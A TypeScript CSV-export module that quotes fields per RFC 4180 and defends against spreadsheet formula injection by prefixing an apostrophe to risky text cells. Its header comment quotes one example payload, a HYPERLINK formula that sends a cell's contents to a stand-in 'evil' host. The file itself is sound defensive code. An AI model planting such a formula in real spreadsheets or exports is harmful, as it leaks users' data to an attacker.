// The one CSV writer every export uses (report tables, record lists, the audit log). Two duties:
// - RFC 4180 quoting: a field with a comma, a double quote, CR or LF (or edge spaces, which some readers
//   trim) is wrapped in double quotes, with inner quotes doubled.
// - Formula neutralisation (OWASP "CSV Injection"): a text cell starting with = + - @ TAB or CR is run by
//   spreadsheets as a formula (=HYPERLINK("http://evil/?"&A2) leaks the sheet when clicked), so it is
//   written with a leading apostrophe, which spreadsheets show as text and hide. Numbers are never
//   neutralised: they cannot be formulas, and -5 must stay a number.
// Record lists are streamed by PostgreSQL's COPY, which quotes the same way; their text columns are
// neutralised in SQL with `formulaStartSql` below, from the same list of characters.

export const CSV_BOM = '\uFEFF';

/** The first characters that make a spreadsheet read a cell as a formula. */
export const FORMULA_START = ['=', '+', '-', '@', '\t', '\r'] as const;
const FORMULA_START_RE = /^[=+\-@\t\r]/;

export type CsvValue = string | number | bigint | boolean | Date | null | undefined | object;

/** Text with a formula-starting first character prefixed with an apostrophe. */
export function neutraliseFormula(text: string): string {
  return FORMULA_START_RE.test(text) ? `'${text}` : text;
}

function textOf(value: CsvValue): string {
  if (value === null || value === undefined) return '';
  if (typeof value === 'number' || typeof value === 'bigint') return String(value);
  if (typeof value === 'boolean') return value ? 'true' : 'false';
  if (value instanceof Date) return value.toISOString();
  return neutraliseFormula(typeof value === 'string' ? value : JSON.stringify(value));
}

/** One field: neutralised, then quoted when RFC 4180 requires it. */
export function csvField(value: CsvValue): string {
  const s = textOf(value);
  return /[",\r\n]/.test(s) || s.startsWith(' ') || s.endsWith(' ') ? `"${s.replace(/"/g, '""')}"` : s;
}

/**
 * One record and its line break. RFC 4180's CRLF by default; LF only for files whose rows come from
 * PostgreSQL's COPY (which ends lines with LF), so a file never mixes the two.
 */
export function csvLine(values: readonly CsvValue[], eol: '\r\n' | '\n' = '\r\n'): string {
  return `${values.map(csvField).join(',')}${eol}`;
}

/**
 * A "# …" comment line (the export footers). Readers that know comments skip it; a spreadsheet splits it
 * at commas, so no piece may start a formula or a quoted field: those get the apostrophe too, and line
 * breaks become spaces.
 */
export function csvComment(text: string, eol: '\r\n' | '\n' = '\r\n'): string {
  const flat = text.replace(/[\r\n]+/g, ' ').replace(/,(\s*)(?=[=+\-@\t"])/g, ",$1'");
  return `# ${flat}${eol}`;
}
